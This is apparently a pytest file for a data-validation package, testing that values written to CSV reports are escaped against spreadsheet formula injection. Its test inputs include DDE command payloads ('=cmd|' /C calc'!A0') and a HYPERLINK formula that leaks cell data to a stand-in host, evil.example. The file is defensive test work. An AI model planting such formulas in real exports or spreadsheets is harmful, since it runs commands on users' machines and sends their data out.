"""Formula injection (issue 9 #6): reports downloaded as CSV returned ``=cmd|...``,
``+SUM(...)`` and ``@HYPERLINK(...)`` as written in the upload; a spreadsheet runs them.

Every cell a report writes for a spreadsheet goes through ``spreadsheet_safe`` (OWASP CSV
Injection; ASVS 1.2.10): text starting like a formula gets a leading single quote.
"""

from __future__ import annotations

import csv
import io

import pytest

from standards.validation import Issue, Report, Rule, spreadsheet_safe, validate_file
from tests.conftest import corrupt

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1",
    "  =1+1",
    "＝1+1",  # full-width equals sign
    "-",
    "-1e3",
    "--1",
]
HARMLESS = ["KAZ", "2026-Q3", "Y18T59", "", "'=already text", "a=b", "1+1", "12", "_T",
            "Did you mean KAZ?"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_gets_a_leading_quote(value) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_alone(value) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", ["-7", "-0", "-12.5", "-1234567"])
def test_plain_negative_numbers_stay_readable(value) -> None:
    """A sign followed by digits is a number constant: no function, reference or operator."""
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [None, 7, -7, 2.5, True])
def test_non_text_is_returned_as_is(value) -> None:
    assert spreadsheet_safe(value) is value


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert cell.lstrip(" ")[:1] not in set("=+@\t\r\n\0＝＋－＠") or cell.startswith("'")
            if cell.startswith("-"):
                assert cell.lstrip("-").replace(".", "").isdigit(), cell


def test_report_csv_escapes_values_taken_from_the_upload(example, validate_frame) -> None:
    frame = example
    for index, (column, value) in enumerate([
            ("CITIZENSHIP", DANGEROUS[0]), ("AGE", DANGEROUS[1]), ("SEX", DANGEROUS[3]),
            ("OBS_VALUE", DANGEROUS[2]), ("POP_GROUP", "-2+3"), ("OBS_VALUE", "-7")]):
        frame = corrupt(frame, 10 + index, column, value)
    report = validate_frame(frame)
    text = report.to_csv()
    assert_no_formula(text)
    values = [row[3] for row in cells(text)[1:]]
    assert "'" + DANGEROUS[0] in values and "'" + DANGEROUS[1] in values
    assert "'" + DANGEROUS[3] in values and "'-2+3" in values
    assert "-7" in values  # the negative count, still a number in the spreadsheet
    # JSON keeps the value as written: only spreadsheets need the quote.
    assert any(e["value"] == DANGEROUS[0] for e in report.as_dict()["errors"])


def test_report_csv_escapes_column_names_taken_from_the_header(example, write_csv) -> None:
    frame = example.with_columns(example["SEX"].alias('=HYPERLINK("http://evil.example")'))
    report = validate_file(write_csv(frame))
    text = report.to_csv()
    assert_no_formula(text)
    assert any(row[2] == '\'=HYPERLINK("HTTP://EVIL.EXAMPLE")' for row in cells(text))


def test_every_cell_of_a_report_is_made_safe() -> None:
    report = Report(standard="x")
    report.add(Issue(Rule.STRUCTURE, "=1+1", row=1, column="+A1", value="@B2", hint="-C3"))
    (row,) = cells(report.to_csv())[1:]
    assert row == ["structure", "1", "'+A1", "'@B2", "'=1+1", "'-C3"]
